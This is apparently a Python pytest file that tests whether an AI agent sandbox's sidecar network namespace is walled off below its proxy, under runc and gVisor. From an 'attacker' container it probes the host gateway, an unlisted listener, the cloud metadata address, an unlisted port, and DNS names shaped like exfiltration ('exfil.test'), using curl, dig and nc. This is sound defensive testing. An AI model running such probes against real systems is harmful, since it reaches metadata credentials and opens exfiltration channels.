"""The floor under the proxy: what a process in the sidecar's network namespace
(what an exploit of the proxy would get) can reach, probed from that namespace
itself (`--network container:<sidecar>`), under runc and gVisor bottles and on
both topologies.

Refused: a listener on this host, through the gateway of the network the
sidecar leaves through; a lab listener at a private address no manifest names;
the metadata address; DNS to anything but the engine's resolver; an internal
host on a port that is not for egress; the sidecar's own proxy port from the
egress side. Each refusal is a connection refused at once (never a timeout), and
each has a positive control: the same target answering a plain container on
that network, and, from the sidecar's namespace itself, the internal host on
its egress port (the floor opens what the manifest names)."""

from __future__ import annotations

import secrets
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from claude_bottle.engine.docker import DockerEngine
from claude_bottle.tracking import labels
from tests.conftest import wait_for
from tests.installed import cli_argv
from tests.sidecar.conftest import ATTACKER_IMAGE, LAB_LABEL, Lab, Site, site_project
from tests.sidecar.test_redteam import gateway_of

# The runc cases run against the remote engine too; it has no gVisor.
CASES = [
    pytest.param(("attacker", "lab"), id="runc-lab", marks=pytest.mark.remote_engine),
    pytest.param(("attacker-gvisor", "lab"), id="runsc-lab"),
    pytest.param(("attacker", "default"), id="runc-default", marks=pytest.mark.remote_engine),
]
COULD_NOT_CONNECT = "7"


@pytest.fixture
def stranger(engine: DockerEngine, lab: Lab, request: pytest.FixtureRequest) -> Iterator[str]:
    """A lab listener no manifest names, on both lab networks: its container."""
    name = f"lab-stranger-{secrets.token_hex(3)}"
    engine.run("run", "-d", "--name", name, "--label", f"{LAB_LABEL}=1", "--network", lab.network,
               "--user", "0", ATTACKER_IMAGE, "python3", "-m", "http.server", "80")  # fmt: skip
    try:
        yield name
    finally:
        engine.run("rm", "-f", name, check=False)


def _probe(engine: DockerEngine, network: str, script: str) -> str:
    return engine.run("run", "--rm", "--label", f"{LAB_LABEL}=1", "--network", network, "--user", "0",
                      ATTACKER_IMAGE, "sh", "-c", script).stdout  # fmt: skip


def _curl(name: str, url: str) -> str:
    return f"curl -s -m 4 -o /dev/null --noproxy '*' {url}; echo {name}=$?"


def _values(out: str) -> dict[str, str]:
    return dict(line.split("=", 1) for line in out.splitlines() if "=" in line)


@pytest.mark.parametrize("case", CASES)
def test_the_sidecars_own_way_out_is_walled_below_the_proxy(
    engine: DockerEngine,
    lab: Lab,
    case: tuple[str, str],
    host_listener: tuple[int, Callable[[], list[str]]],
    stranger: str,
    sidecar_image: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    request: pytest.FixtureRequest,
) -> None:
    agent, topology = case
    site: Site = request.getfixturevalue(f"{topology}_site")
    project = site_project(site, sidecar_image, tmp_path, monkeypatch)
    if topology == "default":
        engine.run("network", "connect", site.network, stranger)
    port, seen = host_listener
    c = secrets.token_hex(5)
    gateway = gateway_of(engine, site.network)
    stranger_ip = engine.address_of(stranger, site.network)
    holder = subprocess.Popen(
        cli_argv("run", agent, "--", "sh", "-c", "echo up; sleep 120"),
        cwd=project, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout is not None
        assert holder.stdout.readline() == "up\n", holder.stderr.read() if holder.stderr else ""
        owned = [f"label={labels.OWNER_PID}={holder.pid}", f"label={labels.ROLE}={labels.ROLE_SIDECAR}"]
        filters = [a for f in owned for a in ("--filter", f)]
        (sidecar,) = wait_for(
            lambda: engine.lines("ps", *filters, "--format", "{{.Names}}"), 30, "the sidecar"
        )
        probes = "; ".join([
            _curl("host", f"http://{gateway}:{port}/{c}-host"),
            _curl("stranger", f"http://{stranger_ip}/{c}-stranger"),
            _curl("metadata", "http://169.254.169.254/"),
            _curl("odd_port", f"http://{site.web_ip}:9000/{c}-odd"),
            f"dig @{site.dns_ip} +time=2 +tries=1 {c}.exfil.test >/dev/null 2>&1; echo dns=$?",
            # The control, from the same namespace: the internal host, on its egress port.
            _curl("internal", f"http://{site.web_ip}/{c}-internal"),
        ])  # fmt: skip
        inside = _values(_probe(engine, f"container:{sidecar}", probes))
        assert inside["internal"] == "0", inside
        for what in ("host", "stranger", "metadata", "odd_port"):
            assert inside[what] == COULD_NOT_CONNECT, (what, inside)
        assert inside["dns"] != "0", inside
        # Nothing reaches the proxy's port from the egress side (another sidecar, a lab host).
        sidecar_ip = engine.address_of(sidecar, site.network)
        from_outside = _values(
            _probe(engine, site.network, _curl("proxy_port", f"http://{sidecar_ip}:3128/"))
        )
        assert from_outside["proxy_port"] == COULD_NOT_CONNECT, from_outside
    finally:
        holder.terminate()
        holder.communicate(timeout=60)
    # The controls: each target answers a plain container on the same network.
    controls = _values(_probe(engine, site.network, "; ".join([
        _curl("host", f"http://{gateway}:{port}/{c}-control"),
        _curl("stranger", f"http://{stranger_ip}/{c}-control"),
        f"printf x | nc -w 2 {site.web_ip} 9000; echo odd_port=$?",
        f"dig @{site.dns_ip} +time=2 +tries=1 ctl-{c}.exfil.test >/dev/null 2>&1; echo dns=$?",
    ])))  # fmt: skip
    assert controls == {"host": "0", "stranger": "0", "odd_port": "0", "dns": "0"}, controls
    wait_for(lambda: f"/{c}-control" in seen(), 30, "the control in the listener's log")
    assert seen() == [f"/{c}-control"]
    assert f"ctl-{c}.exfil.test" in lab.dns_queries()
    assert f"{c}.exfil.test" not in lab.dns_queries()
    assert lab.web_sees(f"/{c}-internal")
    assert not lab.web_saw(f"/{c}-odd")
    logs = engine.run("logs", stranger).stderr
    assert f"/{c}-control" in logs
    assert f"/{c}-stranger" not in logs
